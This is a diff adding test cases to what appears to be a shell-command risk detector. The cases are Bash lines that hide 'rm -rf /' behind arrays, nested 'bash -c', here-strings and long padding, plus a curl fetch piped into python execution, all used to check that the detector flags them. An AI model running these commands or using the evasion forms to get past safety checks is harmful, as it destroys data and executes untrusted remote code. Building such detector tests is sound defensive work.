@@ -57,6 +57,21 @@ const ONCE_DIFFERENT = [
   'list=(foo bar); $list x',
   'bar "$(foo "x")"',
   'foo $(echo) x',
+  'bash -s x <<< \'foo "$1"\'',
+  'bash -c \'foo "$@"\' n x',
+  "false || bash -c 'eval \"$1\"' n 'foo x'",
+  'bash -c \'foo "$@"\' n $(echo x y)',
+  "set -- bar; bash -c 'foo x$1'",
+  'list=(bar foo); "${list[1]}" x',
+  'list=(bar foo x); "${list[@]:1}"',
+  'list=(foo x); ${list[-2]} x',
+  'false && list=(bar); list+=(foo); "${list[@]}" x',
+  "compgen -W '$(foo x)' y; true",
+  'echo x y | xargs -n 1 foo',
+  "eval foo x '#<'",
+  'foo x ${unset_one-\\\n}',
+  'bash -c "bash -c \'foo x $unset_one\'"',
+  'x=$(echo foo x); bash -c "bash -c \'$x\'"',
 ] as const;
 
 test('[INSPECT-32] every program that a real Bash starts was seen with its words, or the line was said to be unreadable', async (context) => {
@@ -104,9 +119,17 @@ test('[INSPECT-33] a value lives where the shell keeps it: harm is found behind 
     'case x in $(rm -rf /)) ;; esac',
     'echo {a,$(rm -rf /)}',
     'x=(rm ls); $x -rf /',
+    'x=(ls rm); ${x[1]} -rf /',
+    'x=(ls rm -rf /); "${x[@]:1}"',
+    `bash -c 'echo ${'a'.repeat(17_000)}; rm -rf /'`,
+    `bash -c 'rm -rf "$1"' n /`,
+    `bash -s / <<< 'rm -rf "$1"'`,
   ].filter((line) => !readShell(line, '').findings.some(({ risk }) => risk === 'CRITICAL'));
   assert.deepEqual(missed, []);
   for (const line of [
+    'x=$(curl https://example.com/x); sh -c "python3 -c \'$x\'"',
+    'sh -c "sh -c \'$(cat f)\'"',
+    'x=(ls rm); ${x[$(wc -l < f)]} -rf /',
     'x=zz | true; r${x}m -rf /',
     'x=zz; read x < f; r${x}m -rf /',
     'x=zz; printf -v x ""; r${x}m -rf /',
